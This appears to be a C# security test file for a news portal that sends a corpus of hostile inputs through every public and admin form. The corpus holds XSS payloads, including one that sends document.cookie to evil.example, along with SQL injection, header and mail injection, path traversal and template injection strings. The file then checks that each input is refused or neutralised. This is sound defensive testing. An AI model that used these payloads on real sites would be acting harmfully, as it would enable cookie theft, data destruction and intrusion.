using System.Net;
using System.Text;
using Microsoft.EntityFrameworkCore;
using NewsPortal.Core.Text;
using NewsPortal.Tests.Admin;
using NewsPortal.Tests.Infrastructure;
using NewsPortal.Web.Authorization;

namespace NewsPortal.Tests.Security;

/// <summary>
/// Hostile input in every field of every form, public and admin: never a 500, never a header
/// injected, and what is stored is either refused or made harmless.
/// </summary>
public class HostileInput(AdminPortal portal) : IClassFixture<AdminPortal>
{
    public static readonly string[] Corpus = BuildCorpus();

    private static string[] BuildCorpus()
    {
        var list = new List<string>
        {
            // Script injection
            "<script>alert(1)</script>", "\"><script>alert(1)</script>", "'><img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
            "javascript:alert(1)", "<iframe src=javascript:alert(1)>", "<a href=\"javascript:alert(1)\">x</a>", "<body onload=alert(1)>",
            "<img src=x onerror=\"fetch('//evil.example?c='+document.cookie)\">", "</textarea><script>alert(1)</script>",
            "</title><script>alert(1)</script>", "<style>*{display:none}</style>", "<form action=//evil.example><input name=p>",
            "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}",
            "@(1+1)", "@{ throw new System.Exception(); }", "<%= 7*7 %>", "#{7*7}", "<!--#exec cmd=\"ls\"-->", "<![CDATA[<script>alert(1)</script>]]>",
            "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY a \"aaaa\">]><x>&a;</x>", "&lt;script&gt;alert(1)&lt;/script&gt;", "%3Cscript%3Ealert(1)%3C/script%3E",
            // SQL injection
            "' OR '1'='1", "' OR 1=1 --", "\" OR \"\"=\"", "'; DROP TABLE Articles; --", "1; DELETE FROM AspNetUsers", "' UNION SELECT PasswordHash FROM AspNetUsers --",
            "admin'--", "1' AND SLEEP(5) --", "'||(SELECT sqlite_version())||'", "\\'; SELECT 1; --", "%' AND 1=1 AND '%'='", "') OR ('a'='a",
            "NEAR(\"a\" \"b\")", "\"unterminated", "title:* OR body:*", "a* AND b* NOT c^", "((((((((((", "))))))", "*", "^",
            // Header and mail injection
            "x\r\nSet-Cookie: injected=1", "x\r\nX-Injected: 1", "/\r\nLocation: https://evil.example", "%0d%0aX-Injected:%201", "x\nBcc: victim@evil.example",
            "victim@evil.example\r\nBcc: other@evil.example", "a@b.c\nSubject: hi", "\r\n\r\n<html>injected</html>",
            // Bidi and invisible characters
            "\u202Egnp.exe", "abc\u202Edcba", "\u2066hidden\u2069", "\u202A\u202B\u202C\u202D", "\u200B\u200B\u200B", "\uFEFFbom", "\u0000null\u0000", "\u0007bell\u0008",
            "ع\u0651\u0651\u0651\u0651\u0651\u0651\u0651\u0651", "ـــــــــــــــــ", "\uFFFD\uFFFD", "\uD800", "\uDFFF",
            // Paths and names
            "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd\u0000.png", "C:\\boot.ini", "file:///etc/passwd", "\\\\evil\\share",
            "con", "aux.png", "....//....//etc/passwd", "%2e%2e%2f%2e%2e%2f", "https://evil.example/", "//evil.example", "/\\evil.example",
            // Odd but legal text
            "😀🎉🇸🇦", "مرحبا بالعالم", "Hello عالم mixed", "ﷺ ﷻ ﷲ", "١٢٣٤٥٦٧٨٩٠", "   ", "", "-", "0", "-1", "99999999999999999999999", "1e308", "NaN",
            "true", "null", "undefined", "[]", "{}", "{\"a\":1}", "%s%s%s%n", "{0}{1}{2}", "\t\t\t", "line1\nline2\nline3",
            // Oversize
            new string('ب', 201), new string('x', 1001), new string('ص', 5000), new string('a', 100_000), string.Concat(Enumerable.Repeat("<b>", 5000)),
            string.Concat(Enumerable.Repeat("كلمة ", 20_000)),
        };
        return list.ToArray();
    }

    [Fact]
    public void TheCorpusHasAtLeastAHundredEntries() => Assert.True(Corpus.Length >= 100, $"{Corpus.Length}");

    private static void AssertNoInjection(HttpResponseMessage response, string what)
    {
        Assert.True((int)response.StatusCode < 500, $"{what} answered {(int)response.StatusCode}");
        Assert.False(response.Headers.Contains("X-Injected"), $"{what} injected a header");
        if (response.Headers.TryGetValues("Set-Cookie", out var cookies))
            Assert.DoesNotContain(cookies, c => c.StartsWith("injected"));
        var location = response.Headers.Location?.OriginalString ?? "";
        Assert.DoesNotContain('\r', location);
        Assert.DoesNotContain('\n', location);
        Assert.False(response.Headers.Location is { IsAbsoluteUri: true } abs && abs.Host != "localhost" && abs.Host != "news.example",
            $"{what} redirected off-site to {location}");
    }

    private static async Task<HttpResponseMessage> PostAsync(HttpClient client, string url, string token, params (string Name, string Value)[] fields)
    {
        var pairs = fields.Select(f => new KeyValuePair<string, string>(f.Name, f.Value)).Append(new("__RequestVerificationToken", token));
        var request = new HttpRequestMessage(HttpMethod.Post, url) { Content = new FormUrlEncodedContent(pairs) };
        request.Headers.Add("Sec-Fetch-Site", "same-origin");
        return await client.SendAsync(request);
    }

    [Fact]
    public async Task PublicFormsAndQueriesSurviveEveryHostileInput()
    {
        var visitor = Staff.Browser(portal);
        var token = await Staff.TokenAsync(visitor, "/admin/account/login");
        foreach (var input in Corpus)
        {
            AssertNoInjection(await visitor.GetAsync("/search?q=" + Uri.EscapeDataString(input)), $"search «{input[..Math.Min(30, input.Length)]}»");
            AssertNoInjection(await PostAsync(visitor, "/consent", token, ("choice", input), ("returnUrl", input)), $"consent choice «{input[..Math.Min(30, input.Length)]}»");
            AssertNoInjection(await PostAsync(visitor, "/consent", token, ("choice", "reject"), ("returnUrl", input)), "consent returnUrl");
            AssertNoInjection(await PostAsync(visitor, "/newsletter/subscribe", token, ("email", input), ("source", input), ("wording", input)), "newsletter sign-up");
            AssertNoInjection(await PostAsync(visitor, "/newsletter/subscribe", token, ("email", "reader@example.com" + input), ("source", "/")), "newsletter sign-up address");
            if (!input.Contains('\0'))
            {
                AssertNoInjection(await visitor.GetAsync("/newsletter/unsubscribe/" + Uri.EscapeDataString(input)), "unsubscribe page");
                AssertNoInjection(await visitor.PostAsync("/newsletter/unsubscribe/" + Uri.EscapeDataString(input), new StringContent("List-Unsubscribe=One-Click")), "one-click unsubscribe");
                AssertNoInjection(await visitor.GetAsync("/newsletter/confirm/" + Uri.EscapeDataString(input)), "confirmation page");
            }
            AssertNoInjection(await PostAsync(visitor, "/admin/account/login", token, ("Email", input), ("Password", input), ("ReturnUrl", input)), "login");
            AssertNoInjection(await PostAsync(visitor, "/admin/account/forgot-password", token, ("Email", input)), "forgot password");
            AssertNoInjection(await PostAsync(visitor, "/admin/account/set-password", token, ("Email", input), ("Token", input), ("Password", input), ("ConfirmPassword", input)), "set password");
            AssertNoInjection(await visitor.GetAsync("/admin/account/login?returnUrl=" + Uri.EscapeDataString(input)), "login page");
            // A NUL in a path never reaches the app: the server refuses the request line itself.
            if (input.Contains('\0')) continue;
            AssertNoInjection(await visitor.GetAsync("/sections/" + Uri.EscapeDataString(input)), "section archive");
            AssertNoInjection(await visitor.GetAsync("/articles/1/" + Uri.EscapeDataString(input)), "article slug");
        }
        // Whatever was mailed went to one plain address, with no header smuggled in.
        foreach (var file in Directory.Exists(portal.MailDirectory) ? Directory.GetFiles(portal.MailDirectory, "*.eml") : [])
        {
            var message = await MimeKit.MimeMessage.LoadAsync(file);
            var to = Assert.Single(message.To.Mailboxes);
            Assert.DoesNotContain(to.Address, c => char.IsWhiteSpace(c) || char.IsControl(c));
            Assert.Empty(message.Bcc);
            Assert.Empty(message.Cc);
            Assert.False(message.Headers.Contains("X-Injected"));
        }
    }

    [Fact]
    public async Task InvalidUtf8IsAnsweredCalmly()
    {
        var visitor = Staff.Browser(portal);
        var token = await Staff.TokenAsync(visitor, "/admin/account/login");
        foreach (var raw in new[] { "%FF%FE%FD", "%C0%AF", "%ED%A0%80", "%E2%82", "%F8%88%80%80%80" })
        {
            var body = new StringContent($"Email={raw}&Password={raw}&__RequestVerificationToken={Uri.EscapeDataString(token)}", Encoding.ASCII, "application/x-www-form-urlencoded");
            AssertNoInjection(await visitor.PostAsync("/admin/account/login", body), $"login with {raw}");
            AssertNoInjection(await visitor.GetAsync($"/search?q={raw}"), $"search with {raw}");
        }
    }

    [Fact]
    public async Task AdminFormsSurviveEveryHostileInputAndStoreNothingHarmful()
    {
        var (editor, _) = await Staff.SignedInAsync(portal, NewsroomRoles.Admin);
        var token = await Staff.TokenAsync(editor, "/admin/articles/new");
        var section = portal.Section.Id.ToString();
        foreach (var input in Corpus)
        {
            var form = new MultipartFormDataContent();
            foreach (var (name, value) in new[] { ("Headline", input), ("Dek", input), ("Body", input), ("Tags", input), ("ImageAlt", input), ("ImageCaption", input), ("SectionId", section), ("__RequestVerificationToken", token) })
                form.Add(new StringContent(value), name);
            // Quotes and line breaks cannot travel in a multipart file name; everything else does.
            var fileName = new string(input.Where(c => c != '"' && !char.IsControl(c)).Take(200).ToArray());
            form.Add(new ByteArrayContent(Encoding.UTF8.GetBytes(input)), "Image", string.IsNullOrWhiteSpace(fileName) ? "x.png" : fileName);
            AssertNoInjection(await editor.PostAsync("/admin/articles/new", form), "article form");

            var textOnly = new MultipartFormDataContent();
            foreach (var (name, value) in new[] { ("Headline", input), ("Dek", input), ("Body", input), ("Tags", input), ("SectionId", input), ("AuthorIds", input), ("__RequestVerificationToken", token) })
                textOnly.Add(new StringContent(value), name);
            AssertNoInjection(await editor.PostAsync("/admin/articles/new", textOnly), "article form without image");

            var storable = new MultipartFormDataContent();
            foreach (var (name, value) in new[] { ("Headline", input + " عنوان"), ("Dek", input), ("Body", input), ("Tags", input), ("ImageAlt", input), ("SectionId", section), ("__RequestVerificationToken", token) })
                storable.Add(new StringContent(value), name);
            AssertNoInjection(await editor.PostAsync("/admin/articles/new", storable), "article form with a valid section");

            AssertNoInjection(await PostAsync(editor, "/admin/sections/new", token, ("Name", input), ("Slug", input), ("Description", input), ("Position", input)), "section form");
            AssertNoInjection(await PostAsync(editor, "/admin/tags", token, ("Name", input)), "tag form");
            AssertNoInjection(await PostAsync(editor, "/admin/users/invite", token, ("Email", input), ("DisplayName", input), ("Role", input)), "invite form");
            AssertNoInjection(await PostAsync(editor, "/admin/account/two-factor-setup", token, ("Code", input)), "two-factor form");
            AssertNoInjection(await editor.GetAsync("/admin/articles?q=" + Uri.EscapeDataString(input) + "&status=" + Uri.EscapeDataString(input)), "article filter");
        }

        var newsroom = new Infrastructure.Newsroom(portal);
        var articles = await newsroom.WithDbAsync(db => db.Articles.Include(a => a.Tags).ToListAsync());
        Assert.NotEmpty(articles);
        foreach (var article in articles)
        {
            Assert.DoesNotContain("<script", article.BodyHtml, StringComparison.OrdinalIgnoreCase);
            Assert.DoesNotMatch("(?i)<[^>]+\\son[a-z]+\\s*=", article.BodyHtml);
            foreach (var line in new[] { article.Headline, article.Dek ?? "", article.LeadImageAlt ?? "" }.Concat(article.Tags.Select(t => t.Name)))
            {
                Assert.DoesNotContain(line, c => char.IsControl(c) || TextTools.IsBidiControl(c));
            }
        }
        var sections = await newsroom.WithDbAsync(db => db.Sections.Select(s => s.Name + s.Slug).ToListAsync());
        Assert.All(sections, s => Assert.DoesNotContain(s, c => char.IsControl(c) || TextTools.IsBidiControl(c)));
        Assert.Equal(0, await newsroom.WithDbAsync(db => db.Users.CountAsync(u => u.Email!.Contains("\n") || u.Email!.Contains("\r"))));

        // What was stored is shown as text, never as markup.
        var reader = portal.CreateReader();
        foreach (var article in articles.Take(20))
        {
            await newsroom.ChangeAsync(article.Id, a => a.Publish(newsroom.Now));
            var page = await reader.GetAsync($"/articles/{article.Id}/{Uri.EscapeDataString(article.Slug)}");
            Assert.True(page.StatusCode is HttpStatusCode.OK, $"article {article.Id}: {(int)page.StatusCode}");
            var document = await Html.ParseAsync(page);
            Assert.All(document.QuerySelectorAll("script"), s => Assert.True(System.Text.RegularExpressions.Regex.IsMatch(s.GetAttribute("src") ?? "", @"^/js/(site|newsletter)(\.\w+)?\.js$") || s.GetAttribute("type") == "application/ld+json"));
            Assert.Empty(document.QuerySelectorAll("iframe, form[action^='//'], svg, object, embed"));
        }
    }
}
